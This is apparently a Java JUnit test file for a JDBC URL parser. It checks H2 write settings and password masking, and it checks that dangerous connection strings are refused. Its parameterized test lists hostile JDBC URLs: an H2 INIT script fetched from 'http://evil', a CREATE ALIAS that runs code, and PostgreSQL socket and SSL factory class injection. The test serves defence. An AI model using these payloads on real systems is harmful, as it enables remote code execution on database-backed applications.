package org.parlance.server.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.parlance.core.problem.ParlanceException;

class StoreUrlTest {
    @Test
    void h2_always_writes_before_it_answers() {
        assertThat(StoreUrl.file(Path.of("/data/talks")).jdbc())
                .startsWith("jdbc:h2:file:/data/talks;")
                .contains("WRITE_DELAY=0");
        assertThat(StoreUrl.parse("jdbc:h2:file:./x;WRITE_DELAY=0;LOCK_TIMEOUT=5000")
                        .jdbc())
                .containsOnlyOnce("WRITE_DELAY=0")
                .contains("LOCK_TIMEOUT=5000");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:./x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:file:./x; init =CREATE ALIAS X AS 'int x() { return 1; }'",
                "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
                "jdbc:h2:file:./x;WRITE_DELAY=500",
                "jdbc:h2:tcp://elsewhere/x",
                "jdbc:postgresql://h/db?user=a&socketFactory=org.evil.Factory",
                "jdbc:postgresql://h/db?SSLFactory=org.evil.Factory",
                "jdbc:mysql://h/db",
                "conversations"
            })
    void addresses_that_could_run_code_or_lose_turns_are_refused(String url) {
        assertThatThrownBy(() -> StoreUrl.parse(url))
                .isInstanceOf(ParlanceException.class)
                .hasMessageContaining("Maybe");
    }

    @Test
    void passwords_are_not_shown() {
        assertThat(StoreUrl.parse("jdbc:postgresql://me:geheim@host/db?password=geheim")
                        .shown())
                .isEqualTo("jdbc:postgresql://host/db");
    }
}
